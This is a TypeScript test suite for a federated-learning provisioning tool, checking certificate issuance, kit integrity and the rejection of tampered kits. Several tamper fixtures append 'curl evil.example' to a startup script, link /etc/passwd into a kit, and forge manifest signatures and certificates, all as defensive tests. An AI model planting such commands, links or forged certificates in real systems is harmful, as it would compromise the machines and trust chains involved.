import { X509Certificate } from 'node:crypto'
import {
  chmod,
  cp,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { inspect } from 'node:util'
import type { Clock } from '@hanse/contract'
import { generatePrivateKey, issueLeaf, issueRoot, sha256Hex, signText } from '@hanse/pki'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadKit } from './kit/load-kit.ts'
import { heartbeatOf } from './kit/server-link.ts'
import { parseProject } from './project/parse-project.ts'
import { type ProvisionOptions, type ProvisionResult, provision } from './provision.ts'

const start = Date.parse('2026-12-01T00:00:00Z')
const day = 86_400_000
const clockAt = (now: number): Clock => ({
  now: () => now,
  setTimer: () => ({ [Symbol.dispose]() {} }),
})
const refuses = (code: string, message: RegExp = /./) =>
  expect.objectContaining({
    name: 'ProvisionError',
    code,
    message: expect.stringMatching(message),
  })

const PROJECT = `
api_version: 3
name: league
participants:
  - {name: hub.example.com, type: server, org: center, fed_learn_port: 8102, default_host: localhost, host_names: [127.0.0.1]}
  - {name: site-1, type: client, org: org_a, connect_to: 127.0.0.1, capacity: {num_of_gpus: 2, mem_per_gpu_in_GiB: 16}}
  - {name: lead@example.org, type: admin, org: org_a, role: lead}
builders:
  - {path: nvflare.lighter.impl.static_file.StaticFileBuilder, args: {scheme: tcp, require_signed_jobs: true}}
  - {path: nvflare.lighter.impl.cert.CertBuilder, args: {root_valid_days: 3650}}
`
const SITE_2 = '  - {name: site-2, type: client, org: org_b}\n'
const withSite2 = PROJECT.replace('  - {name: lead@', `${SITE_2}  - {name: lead@`)

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hanse-provision-'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

let runs = 0
interface League {
  readonly options: ProvisionOptions
  run(text?: string, more?: Partial<ProvisionOptions>, now?: number): Promise<ProvisionResult>
  kit(name: string, prod?: string): string
}
/** A league in a folder of its own. */
function league(passphrase: string | undefined = 'correct horse'): League {
  const base = join(folder, `run-${++runs}`)
  const options: ProvisionOptions = {
    outDirectory: join(base, 'out'),
    configDirectory: join(base, 'config'),
    passphrase: () => passphrase,
  }
  return {
    options,
    run: (text = PROJECT, more = {}, now = start) =>
      provision(parseProject(text), { clock: clockAt(now) }, { ...options, ...more }),
    kit: (name, prod = 'prod_00') => join(base, 'out/league', prod, name),
  }
}

async function contents(directory: string): Promise<Record<string, string>> {
  const files = await readdir(directory, { recursive: true, withFileTypes: true })
  const texts = files
    .filter((file) => file.isFile())
    .map(async (file) => {
      const path = join(file.parentPath, file.name)
      return [path.slice(directory.length), await readFile(path, 'utf8')] as const
    })
  return Object.fromEntries((await Promise.all(texts)).sort())
}

describe('provision', () => {
  let shared: League
  let result: ProvisionResult
  beforeAll(async () => {
    shared = league()
    result = await shared.run()
  })

  it('makes a kit for everybody that loads', async () => {
    expect(result).toMatchObject({
      project: 'league',
      prodDirectory: shared.kit('', 'prod_00'),
      removed: [],
      warnings: [],
      caKey: { protectedBy: 'passphrase', keyFile: undefined },
      kits: [
        { name: 'hub.example.com', type: 'server', status: 'new' },
        { name: 'site-1', type: 'site', status: 'new' },
        { name: 'lead@example.org', type: 'admin', status: 'new' },
      ],
    })
    const server = await loadKit(shared.kit('hub.example.com'), { now: start })
    expect(server).toMatchObject({
      type: 'server',
      name: 'hub.example.com',
      project: 'league',
      server: {
        identity: 'hub.example.com',
        host: 'hub.example.com',
        port: 8102,
        scheme: 'tcp',
        connectionSecurity: 'mtls',
        customRootPem: undefined,
      },
      listen: { host: '0.0.0.0', port: 8102, adminPort: 8102 },
      settings: {
        heartbeatTimeoutSeconds: 30,
        deadClientGraceSeconds: 15,
        maxSites: 100,
        maxJobs: 4,
        maxRegistrationSeconds: 60,
        requireSignedJobs: true,
      },
      authorizationPolicy: expect.stringContaining('"project_admin": "any"'),
      privacyPolicy: undefined,
      warnings: [],
    })
    expect(server.identity.certificate.subjectAltNames).toEqual([
      'DNS:localhost',
      'IP:127.0.0.1',
      'DNS:hub.example.com',
    ])
    const site = await loadKit(shared.kit('site-1'), { now: start })
    expect(site).toMatchObject({
      type: 'site',
      server: { identity: 'hub.example.com', host: '127.0.0.1', port: 8102 },
      identity: { organization: 'org_a', role: undefined },
      settings: { gpus: 2, gpuMemoryGib: 16, allowLogStreaming: true, requireSignedJobs: true },
      hanse: {
        confinement: { minimum: 'namespaces' },
        graceSeconds: 15,
        trainerRuntimes: new Map([
          ['node', { program: 'node', kind: 'node', options: [], environment: {}, read: [] }],
          [
            'python3',
            { program: 'python3', kind: 'python', options: [], environment: {}, read: [] },
          ],
        ]),
      },
      datasets: new Map(),
    })
    const lead = await loadKit(shared.kit('lead@example.org'), { now: start })
    expect(lead).toMatchObject({
      type: 'admin',
      role: 'lead',
      server: { host: 'localhost', port: 8102 },
      settings: { idleTimeoutSeconds: 900 },
      uploadDirectory: join(shared.kit('lead@example.org'), 'transfer'),
    })
  })

  it('keeps keys to their owner: mode 0600, folders 0700, no key in the state', async () => {
    const modeOf = async (path: string) => (await stat(path)).mode & 0o777
    expect(await modeOf(shared.kit('site-1/startup/client.key'))).toBe(0o600)
    expect(await modeOf(shared.kit('site-1/startup'))).toBe(0o700)
    expect(await modeOf(shared.kit('', 'prod_00'))).toBe(0o700)
    expect(await modeOf(shared.kit('site-1/startup/start.sh'))).toBe(0o755)
    expect(await modeOf(shared.kit('site-1/startup/client.crt'))).toBe(0o644)
    const state = shared.kit('hanse_state.json', 'state')
    expect(await modeOf(state)).toBe(0o600)
    expect(await modeOf(shared.kit('', 'state'))).toBe(0o700)
    expect(await readFile(state, 'utf8')).not.toContain('PRIVATE')
  })

  it('says in certificates what they may be used for', async () => {
    const uses = async (name: string) => {
      const { certificate } = (await loadKit(shared.kit(name), { now: start })).identity
      return [certificate.kitMark?.type, [...(certificate.extendedKeyUsage ?? [])].length]
    }
    expect(await uses('hub.example.com')).toEqual(['server', 2])
    expect(await uses('site-1')).toEqual(['site', 1])
    expect(await uses('lead@example.org')).toEqual(['admin', 1])
  })

  it('puts every address of the server into its certificate, names and addresses, also long ones', async () => {
    const own = league()
    const long = `${'a-long-name.'.repeat(21)}org`
    expect(long).toHaveLength(255)
    const name = `${'n'.repeat(59)}.org`
    expect(name).toHaveLength(63)
    await own.run(`
api_version: 3
name: league
participants:
  - {name: ${name}, type: server, org: center, default_host: ${long}, host_names: [127.0.0.1, localhost, 10.1.2.3]}
  - {name: red, type: client, org: org_a, connect_to: 127.0.0.1}
  - {name: silver, type: client, org: org_a}
  - {name: lead@example.org, type: admin, org: org_a, role: lead, connect_to: {host: 10.1.2.3}}
`)
    const certificate = new X509Certificate(await readFile(own.kit(`${name}/startup/server.crt`)))
    for (const host of [long, 'localhost', name]) expect(certificate.checkHost(host)).toBe(host)
    for (const address of ['127.0.0.1', '10.1.2.3'])
      expect(certificate.checkIP(address)).toBe(address)
    expect(certificate.checkHost('elsewhere.org')).toBeUndefined()
    expect(certificate.checkIP('127.0.0.2')).toBeUndefined()
    const hosts = ['red', 'silver', 'lead@example.org'].map(async (participant) => {
      const { server } = await loadKit(own.kit(participant), { now: start })
      return server.host
    })
    expect(await Promise.all(hosts)).toEqual(['127.0.0.1', long, '10.1.2.3'])
  })

  it('leaves existing kits untouched when somebody is added, and everything when nobody is', async () => {
    const own = league()
    await own.run()
    const before = await contents(own.kit('', 'prod_00'))
    const second = await own.run(withSite2)
    expect(second.kits.map(({ name, status }) => [name, status])).toEqual([
      ['hub.example.com', 'unchanged'],
      ['site-1', 'unchanged'],
      ['site-2', 'new'],
      ['lead@example.org', 'unchanged'],
    ])
    expect(second.kits[0]?.directory).toBe(own.kit('hub.example.com'))
    expect(await readdir(own.kit('', 'prod_01'))).toEqual(['site-2'])
    expect(await contents(own.kit('', 'prod_00'))).toEqual(before)
    const [old, added] = await Promise.all([
      loadKit(own.kit('site-1'), { now: start }),
      loadKit(own.kit('site-2', 'prod_01'), { now: start }),
    ])
    expect(added.identity.rootPem).toBe(old.identity.rootPem)

    const third = await own.run(PROJECT)
    expect(third).toMatchObject({ prodDirectory: undefined, removed: ['site-2'] })
    expect((await readdir(own.kit('', ''))).sort()).toEqual(['prod_00', 'prod_01', 'state'])
  })

  it('refuses changed facts, names them, and makes new kits when asked', async () => {
    const own = league()
    await own.run()
    const changed = PROJECT.replace('role: lead', 'role: member')
    await expect(own.run(changed)).rejects.toThrow(
      refuses('ERR_PARTICIPANT_CHANGED', /lead@example\.org \(role: lead → member\)/),
    )
    expect((await readdir(own.kit('', ''))).sort()).toEqual(['prod_00', 'state'])
    await own.run(changed, { reissue: ['lead@example.org'] })
    const now = await loadKit(own.kit('lead@example.org', 'prod_01'), { now: start })
    const before = await loadKit(own.kit('lead@example.org'), { now: start })
    expect(now.identity.role).toBe('member')
    expect(now.identity.key.matches(before.identity.certificate.publicKey)).toBe(false)
    await expect(own.run(changed, { reissue: ['nobody'] })).rejects.toThrow(
      refuses('ERR_PARTICIPANT_CHANGED', /nobody/),
    )
    await expect(own.run(changed.replace('8102', '8103'))).rejects.toThrow(
      refuses('ERR_PARTICIPANT_CHANGED', /hub.*8102 → 8103.*site-1 .*lead@/),
    )
  })

  it('refuses a wrong passphrase, none, and a short one for a new CA', async () => {
    const { run } = shared
    await expect(run(PROJECT, { passphrase: () => 'wrong horse' })).rejects.toThrow(
      refuses('ERR_PASSPHRASE_WRONG'),
    )
    await expect(run(PROJECT, { passphrase: undefined })).rejects.toThrow(
      refuses('ERR_PASSPHRASE_NEEDED'),
    )
    await expect(league('short').run()).rejects.toThrow(
      refuses('ERR_PASSPHRASE_WRONG', /at least 8/),
    )
  })

  it('protects the CA by a key file in the configuration folder when there is no passphrase', async () => {
    const own = league(undefined)
    const first = await own.run(PROJECT, { passphrase: () => undefined })
    expect(first.caKey.protectedBy).toBe('key-file')
    const keyFile = first.caKey.keyFile ?? ''
    expect(keyFile.startsWith(join(own.options.configDirectory, 'ca-keys'))).toBe(true)
    expect((await stat(keyFile)).mode & 0o777).toBe(0o600)
    await own.run(withSite2, { passphrase: undefined })
    await rm(keyFile)
    await expect(own.run(withSite2)).rejects.toThrow(
      refuses('ERR_PASSPHRASE_NEEDED', /bring it back/),
    )
  })

  it('never puts the key file beside the CA', async () => {
    const own = league()
    await expect(
      own.run(PROJECT, {
        passphrase: undefined,
        configDirectory: join(own.options.outDirectory, 'league/config'),
      }),
    ).rejects.toThrow(refuses('ERR_OUTPUT', /beside/))
  })

  it('notices a state file that was changed or damaged', async () => {
    const own = league()
    await own.run()
    const path = own.kit('hanse_state.json', 'state')
    const text = await readFile(path, 'utf8')
    await writeFile(path, text.replace('"org": "org_a"', '"org": "org_b"'))
    await expect(own.run()).rejects.toThrow(refuses('ERR_STATE', /changed by something else/))
    await writeFile(path, text.slice(0, -20))
    await expect(own.run()).rejects.toThrow(refuses('ERR_STATE', /damaged/))
    await writeFile(path, text)
    expect((await own.run()).prodDirectory).toBeUndefined()
  })

  it('keeps a second run out while one works', async () => {
    const own = league()
    const results = await Promise.allSettled([own.run(), own.run()])
    expect(results.map(({ status }) => status).sort()).toEqual(['fulfilled', 'rejected'])
    expect(results.find(({ status }) => status === 'rejected')).toMatchObject({
      reason: { code: 'ERR_OUTPUT' },
    })
  })

  it('refuses a folder with kits of another CA', async () => {
    const own = league()
    await mkdir(own.kit('', 'prod_00'), { recursive: true })
    await expect(own.run()).rejects.toThrow(refuses('ERR_OUTPUT', /another CA/))
  })

  it('refuses to go past prod_99', async () => {
    const own = league()
    await own.run()
    await mkdir(own.kit('', 'prod_99'))
    await expect(own.run(withSite2)).rejects.toThrow(refuses('ERR_OUTPUT', /prod_99/))
  })

  it('copies a custom CA certificate and refuses what is none', async () => {
    const own = league()
    await mkdir(own.options.outDirectory, { recursive: true })
    const proxy = issueRoot(await generatePrivateKey(), {
      commonName: 'proxy',
      notBefore: start,
      notAfter: start + day,
    })
    const text = PROJECT.replace(
      'capacity:',
      'connection_security: TLS, custom_ca_cert: proxy.pem, capacity:',
    )
    await writeFile(join(own.options.outDirectory, 'proxy.pem'), 'x')
    const options = { projectFileDirectory: own.options.outDirectory }
    await expect(own.run(text, options)).rejects.toThrow(refuses('ERR_PROJECT_FILE', /proxy\.pem/))
    await writeFile(join(own.options.outDirectory, 'proxy.pem'), `text\n${proxy.pem}`)
    await own.run(text, options)
    expect((await loadKit(own.kit('site-1'), { now: start })).server).toMatchObject({
      connectionSecurity: 'tls',
      customRootPem: proxy.pem,
    })
  })

  it('goes on under the root of a stock provisioner and leaves its kits', async () => {
    const own = league()
    const projectDirectory = join(own.options.outDirectory, 'kit_reference')
    const stock = fileURLToPath(new URL('../../../vectors/kits/central/', import.meta.url))
    await mkdir(join(projectDirectory, 'state'), { recursive: true })
    await cp(join(stock, 'kits'), join(projectDirectory, 'prod_03'), { recursive: true })
    const cert = join(projectDirectory, 'state/cert.json')
    await cp(join(stock, 'state/cert.TEST-ONLY.json'), cert)
    const before = await contents(join(projectDirectory, 'prod_03'))
    const text = `api_version: 3
name: kit_reference
participants:
  - {name: fl-server.example.com, type: server, org: central_org}
  - {name: site-ip, type: client, org: org_a}
  - {name: site-new, type: client, org: org_a}
  - {name: lead@example.org, type: admin, org: org_b, role: lead}
`
    await expect(own.run(text.replace('role: lead', 'role: member'))).rejects.toThrow(
      refuses('ERR_PARTICIPANT_CHANGED', /lead@example\.org \(role: lead → member\)/),
    )
    const { kits, warnings } = await own.run(text)
    expect(kits.map(({ name, status }) => [name, status])).toEqual([
      ['fl-server.example.com', 'unchanged'],
      ['site-ip', 'unchanged'],
      ['site-new', 'new'],
      ['lead@example.org', 'unchanged'],
    ])
    expect(kits[1]?.directory).toBe(join(projectDirectory, 'prod_03/site-ip'))
    expect(kits[2]?.directory).toBe(join(projectDirectory, 'prod_04/site-new'))
    expect(warnings).toEqual([expect.stringContaining(`${cert} is not used any more`)])
    expect(await contents(join(projectDirectory, 'prod_03'))).toEqual(before)
    const kit = await loadKit(join(projectDirectory, 'prod_04/site-new'), { now: start })
    expect(kit.identity.rootPem).toBe(before['/site-ip/startup/rootCA.pem'])
    expect(await readFile(join(projectDirectory, 'state/hanse_state.json'), 'utf8')).not.toContain(
      'PRIVATE',
    )
  })

  it('says without quoting it that a stock state cannot be read', async () => {
    const own = league()
    await mkdir(own.kit('', 'state'), { recursive: true })
    await writeFile(own.kit('cert.json', 'state'), '{"root_cert": "x", "root_pri_key": "SECRET"}')
    const error = await own.run().catch((reason: unknown) => reason)
    expect(error).toMatchObject({ code: 'ERR_STATE' })
    expect(inspect(error)).not.toContain('SECRET')
  })

  it('warns before certificates expire', async () => {
    const { warnings } = await shared.run(PROJECT, {}, start + 340 * day)
    expect(warnings).toEqual(
      ['hub.example.com', 'site-1', 'lead@example.org'].map(
        (name) => `the certificate of ${name} expires on 2027-11-26: reissue it`,
      ),
    )
    const own = league()
    await own.run()
    const reissued = await own.run(PROJECT, { reissue: ['site-1'] }, start + 340 * day)
    expect(reissued.warnings.join()).not.toContain('site-1')
  })
})

describe('loadKit on a changed kit', () => {
  let own: League
  let site: string
  beforeAll(async () => {
    own = league()
    await own.run(withSite2)
    site = own.kit('site-1')
  })

  /** Changes one file for the time of one check. */
  async function refusesAfter(
    path: string,
    change: (text: string) => string | undefined,
    expected: unknown,
    now = start,
  ): Promise<void> {
    const full = join(site, path)
    const before = await readFile(full, 'utf8').catch(() => undefined)
    const mode = before === undefined ? 0o644 : (await stat(full)).mode
    const changed = change(before ?? '')
    if (changed === undefined) await rm(full)
    else await writeFile(full, changed)
    await expect(loadKit(site, { now })).rejects.toThrow(expected as Error)
    if (before === undefined) await rm(full)
    else {
      await writeFile(full, before)
      await chmod(full, mode)
    }
    expect((await loadKit(site, { now: start })).warnings).toEqual([])
  }

  it.each([
    ['startup/fed_client.json', (text: string) => text.replace('127.0.0.1', '127.0.0.2')],
    ['startup/start.sh', (text: string) => `${text}\ncurl evil.example\n`],
    ['startup/sub_start.sh', (text: string) => text.replace('set -u', 'set +u')],
    ['readme.txt', () => 'run evil.sh'],
  ])('names a changed file: %s', async (path, change) => {
    await refusesAfter(path, change, refuses('ERR_KIT_INTEGRITY', new RegExp(`changed: ${path}`)))
  })

  it.each(['startup/stop_fl.sh', 'readme.txt'])('names a missing file: %s', async (path) => {
    await refusesAfter(
      path,
      () => undefined,
      refuses('ERR_KIT_INTEGRITY', new RegExp(`missing: ${path}`)),
    )
  })

  it('names an added file', async () => {
    await refusesAfter(
      'startup/customRootCA.pem',
      () => 'x',
      refuses('ERR_KIT_INTEGRITY', /not in the manifest: startup\/customRootCA\.pem/),
    )
  })

  it('refuses a kit without its manifest or its signature', async () => {
    for (const path of ['startup/hanse_manifest.json', 'startup/hanse_manifest.sig'])
      await refusesAfter(
        path,
        () => undefined,
        refuses('ERR_KIT_MANIFEST_MISSING', new RegExp(path)),
      )
  })

  it('refuses a manifest that was changed, or signed by somebody else', async () => {
    await refusesAfter(
      'startup/hanse_manifest.json',
      (text) => text.replace('"size"', '"size" '),
      refuses('ERR_KIT_MANIFEST', /not signed/),
    )
    const signature = Buffer.from(
      (await generatePrivateKey()).sign(await readFile(join(site, 'startup/hanse_manifest.json'))),
    ).toString('base64')
    await refusesAfter(
      'startup/hanse_manifest.sig',
      () => signature,
      refuses('ERR_KIT_MANIFEST', /not signed/),
    )
  })

  it('refuses a manifest signed by a root that was slipped into the kit', async () => {
    const intruderKey = await generatePrivateKey()
    const intruder = issueRoot(intruderKey, {
      commonName: 'league',
      notBefore: start - day,
      notAfter: start + day,
    })
    const rootPath = join(site, 'startup/rootCA.pem')
    const manifestPath = join(site, 'startup/hanse_manifest.json')
    const signaturePath = join(site, 'startup/hanse_manifest.sig')
    const before = await Promise.all(
      [rootPath, manifestPath, signaturePath].map((path) => readFile(path, 'utf8')),
    )
    const bundle = `${intruder.pem}${before[0]}`
    const manifest = JSON.parse(before[1]!)
    manifest.files['startup/rootCA.pem'] = {
      sha256: sha256Hex(bundle),
      size: bundle.length,
    }
    const text = JSON.stringify(manifest)
    await writeFile(rootPath, bundle)
    await writeFile(manifestPath, text)
    await writeFile(signaturePath, signText(intruderKey, text))
    await expect(loadKit(site, { now: start })).rejects.toThrow(
      refuses('ERR_KIT_MANIFEST', /not signed/),
    )
    await writeFile(manifestPath, before[1]!)
    await writeFile(signaturePath, before[2]!)
    await expect(loadKit(site, { now: start })).rejects.toThrow(
      refuses('ERR_KIT_INTEGRITY', /changed: startup\/rootCA\.pem/),
    )
    await writeFile(rootPath, before[0]!)
  })

  it('refuses the manifest of another kit of the same project', async () => {
    const other = own.kit('site-2')
    const names = ['startup/hanse_manifest.json', 'startup/hanse_manifest.sig']
    const texts = new Map<string, string>()
    for (const name of names) {
      texts.set(name, await readFile(join(site, name), 'utf8'))
      await writeFile(join(site, name), await readFile(join(other, name)))
    }
    await expect(loadKit(site, { now: start })).rejects.toThrow(
      refuses('ERR_KIT_MANIFEST', /belongs to the site site-2/),
    )
    for (const [name, text] of texts) await writeFile(join(site, name), text)
  })

  it('refuses a key of another kit, another root and an expired certificate, by their causes', async () => {
    const other = own.kit('site-2')
    const otherKey = await readFile(join(other, 'startup/client.key'), 'utf8')
    await refusesAfter(
      'startup/client.key',
      () => otherKey,
      expect.objectContaining({ code: 'ERR_KEY_MISMATCH' }),
    )
    const stranger = issueRoot(await generatePrivateKey(), {
      commonName: 'league',
      notBefore: start - day,
      notAfter: start + day,
    })
    await refusesAfter(
      'startup/rootCA.pem',
      () => stranger.pem,
      expect.objectContaining({ code: 'ERR_CERT_SIGNATURE' }),
    )
    await expect(loadKit(site, { now: start + 361 * day })).rejects.toThrow(
      expect.objectContaining({
        code: 'ERR_CERT_EXPIRED',
        message: expect.stringContaining('"site-1" expired on 2027-11-26'),
      }),
    )
  })

  it('refuses a kit whose files say another type than its certificate', async () => {
    const path = join(site, 'startup/fed_client.json')
    const text = await readFile(path, 'utf8')
    await refusesAfter(
      'startup/fed_server.json',
      () => '{}',
      refuses('ERR_KIT_TYPE', /of a server and of a site/),
    )
    await rm(path)
    await writeFile(join(site, 'startup/fed_admin.json'), '{}')
    await expect(loadKit(site, { now: start })).rejects.toThrow(
      refuses('ERR_KIT_TYPE', /issued for a kit of type site, but this kit is of type admin/),
    )
    await rm(join(site, 'startup/fed_admin.json'))
    await writeFile(path, text)
  })

  it('refuses symbolic links and folders in startup', async () => {
    await symlink('/etc/passwd', join(site, 'startup/link'))
    await expect(loadKit(site, { now: start })).rejects.toThrow(
      refuses('ERR_KIT_FILE', /startup\/link is a symbolic link/),
    )
    await rm(join(site, 'startup/link'))
    await mkdir(join(site, 'startup/sub'))
    await expect(loadKit(site, { now: start })).rejects.toThrow(
      refuses('ERR_KIT_FILE', /not a file/),
    )
    await rm(join(site, 'startup/sub'), { recursive: true })
  })

  it('refuses a private key that others can read', async () => {
    const key = join(site, 'startup/client.key')
    await chmod(key, 0o640)
    await expect(loadKit(site, { now: start })).rejects.toThrow(
      refuses('ERR_KIT_KEY_MODE', /mode 0640.*chmod 600/),
    )
    await chmod(key, 0o600)
  })

  it('reads what a site may change, strictly', async () => {
    const local = (name: string, text: string) => writeFile(join(site, 'local', name), text)
    await local(
      'hanse.json',
      JSON.stringify({
        format_version: 1,
        confinement: { minimum: 'node-permission' },
        grace_seconds: 2,
      }),
    )
    await local(
      'datasets.json',
      JSON.stringify({
        format_version: 1,
        datasets: { train: { path: '/data/train', scopes: ['private'] } },
      }),
    )
    await local('resources.json', JSON.stringify({ allow_log_streaming: false, more: 1 }))
    await local('authorization.json', JSON.stringify({ format_version: '1.0', permissions: {} }))
    await local('privacy.json', JSON.stringify({ scopes: [{ name: 'other' }] }))
    const kit = await loadKit(site, { now: start })
    expect(kit.warnings).toEqual([
      "data set 'train' is for scope 'private', which local/privacy.json has not",
    ])
    expect(kit).toMatchObject({
      hanse: { confinement: { minimum: 'node-permission' }, graceSeconds: 2 },
      datasets: new Map([['train', { path: '/data/train', scopes: ['private'] }]]),
      settings: { allowLogStreaming: false, gpus: 0 },
      authorizationPolicy: '{"format_version":"1.0","permissions":{}}',
      privacyPolicy: { scopes: new Map([['other', { name: 'other', filters: [] }]]) },
    })
    for (const [name, text, message] of [
      ['hanse.json', '{"format_version": 1, "confinment": {}}', /local\/hanse\.json.*confinment/s],
      ['hanse.json', '{"format_version": 1, "confinement": {"minimum": "some"}}', /confinement/],
      ['hanse.json', '{', /not valid JSON/],
      [
        'datasets.json',
        '{"format_version": 1, "datasets": {"x": {"path": "/a/../b"}}}',
        /absolute path/,
      ],
      ['resources.json', '{"allow_log_streaming": "no"}', /allow_log_streaming/],
      ['authorization.json', 'x', /not valid JSON/],
      ['privacy.json', '{', /local\/privacy\.json is not valid JSON/],
      [
        'privacy.json',
        '{"scopes": [{"name": "a", "task_result_filter": []}]}',
        /local\/privacy\.json.*"task_result_filter"; allowed are name, .*scopes\[0\]/s,
      ],
    ] as const) {
      const path = join(site, 'local', name)
      const before = await readFile(path, 'utf8')
      await local(name, text)
      await expect(loadKit(site, { now: start })).rejects.toThrow(refuses('ERR_KIT_FILE', message))
      await writeFile(path, before)
    }
    const places = ['hanse', 'datasets', 'resources', 'authorization', 'privacy']
    for (const name of places) await rm(join(site, 'local', `${name}.json`))
  })

  it('has an example of privacy scopes that can be read when it is renamed', async () => {
    const path = join(site, 'local', 'privacy.json')
    await cp(`${path}.sample`, path)
    expect(await loadKit(site, { now: start })).toMatchObject({
      privacyPolicy: { defaultScope: 'private' },
      warnings: [],
    })
    await rm(path)
  })

  it('warns when others may change the settings of the site', async () => {
    const path = join(site, 'local/authorization.json.default')
    await chmod(path, 0o664)
    expect((await loadKit(site, { now: start })).warnings).toEqual([
      'local/authorization.json.default has mode 0664, others may change it: run chmod go-w local/authorization.json.default',
    ])
    await chmod(path, 0o644)
  })

  it('reads the way out of the place, and says where the proxy is, never its login', async () => {
    const path = join(site, 'local', 'hanse.json')
    const login = 'user:p%40ss'
    const settings = {
      format_version: 1,
      outbound_proxy: `http://${login}@proxy.example.org:3128`,
      heartbeat_seconds: 3,
    }
    await writeFile(path, JSON.stringify(settings), { mode: 0o600 })
    const kit = await loadKit(site, { now: start })
    const { outboundProxy } = kit.hanse
    expect(outboundProxy?.url.href).toBe(`http://${login}@proxy.example.org:3128/`)
    for (const text of [String(outboundProxy), JSON.stringify(kit.hanse), inspect(kit.hanse)])
      expect(text).not.toMatch(/p%40ss|p@ss/)
    expect(String(outboundProxy)).toBe('http://proxy.example.org:3128')
    expect(kit.warnings).toEqual([])
    expect(heartbeatOf(kit)).toEqual({ heartbeatIntervalMs: 3_000, maxMissedPongs: 20 })

    await chmod(path, 0o644)
    const { warnings } = await loadKit(site, { now: start })
    expect(warnings).toEqual([expect.stringMatching(/password.*0644.*chmod 600/)])
    await rm(path)
    expect(heartbeatOf(await loadKit(site, { now: start }))).toEqual({
      heartbeatIntervalMs: 20_000,
      maxMissedPongs: 3,
    })
  })

  it.each([
    ['"socks5://u:S3CRET@p:1080"', /only proxies that are spoken to over http:/],
    ['"https://u:S3CRET@p:1080"', /only proxies that are spoken to over http:/],
    ['"http://u:S3CRET@p:1080/path"', /something after the port/],
    ['"http://u:S3CRET@p:1080?x"', /something after the port/],
    ['"http://u:S3CRET%zz@p:1080"', /must be written as %25/],
    ['"http://u%3Av:S3CRET@p:1080"', /no colon/],
    ['"p S3CRET"', /this is no URL/],
    ['17', /a URL is allowed/],
    ['"http://u:S3CRET@p:1080" x', /not valid JSON/],
    ['"http://u:S3CRET', /not valid JSON/],
    ['"http://p:1", "heartbeat_seconds": 0', /heartbeat_seconds/],
  ] as const)('refuses %s as a way out, without quoting it', async (value, message) => {
    const path = join(site, 'local', 'hanse.json')
    await writeFile(path, `{"format_version": 1, "outbound_proxy": ${value}}`, { mode: 0o600 })
    const error: unknown = await loadKit(site, { now: start }).catch((cause: unknown) => cause)
    await rm(path)
    expect(() => {
      throw error
    }).toThrow(refuses('ERR_KIT_FILE', message))
    expect(inspect(error)).not.toContain('S3CRET')
  })

  it('takes a missing policy as none, so that everything is denied', async () => {
    const path = join(site, 'local/authorization.json.default')
    const text = await readFile(path)
    await rm(path)
    const kit = await loadKit(site, { now: start })
    expect(kit).toMatchObject({
      authorizationPolicy: undefined,
      warnings: [expect.stringContaining('everything will be denied')],
    })
    await writeFile(path, text)
  })

  it('refuses a certificate from a forger who is a participant', async () => {
    const kit = await loadKit(site, { now: start })
    const { certificate, key } = kit.identity
    const own = await generatePrivateKey()
    const forged = issueLeaf({ ...certificate, isCa: true }, key, {
      commonName: 'hub.example.com',
      publicKey: own.publicKey,
      hosts: ['hub.example.com'],
      notBefore: start,
      notAfter: start + day,
    })
    const server = own.exportPem()
    const directory = join(folder, 'forged')
    await mkdir(join(directory, 'startup'), { recursive: true })
    const put = (name: string, text: string) =>
      writeFile(join(directory, 'startup', name), text, { mode: 0o600 })
    await put(
      'fed_server.json',
      await readFile(join(shared('hub.example.com'), 'startup/fed_server.json'), 'utf8'),
    )
    await put('server.crt', forged.pem + certificate.pem)
    await put('server.key', server)
    await put('rootCA.pem', kit.identity.rootPem)
    await expect(loadKit(directory, { now: start })).rejects.toThrow(
      expect.objectContaining({ code: 'ERR_CERT_NOT_CA' }),
    )
    function shared(name: string) {
      return site.replace(/site-1$/, name)
    }
  })
})
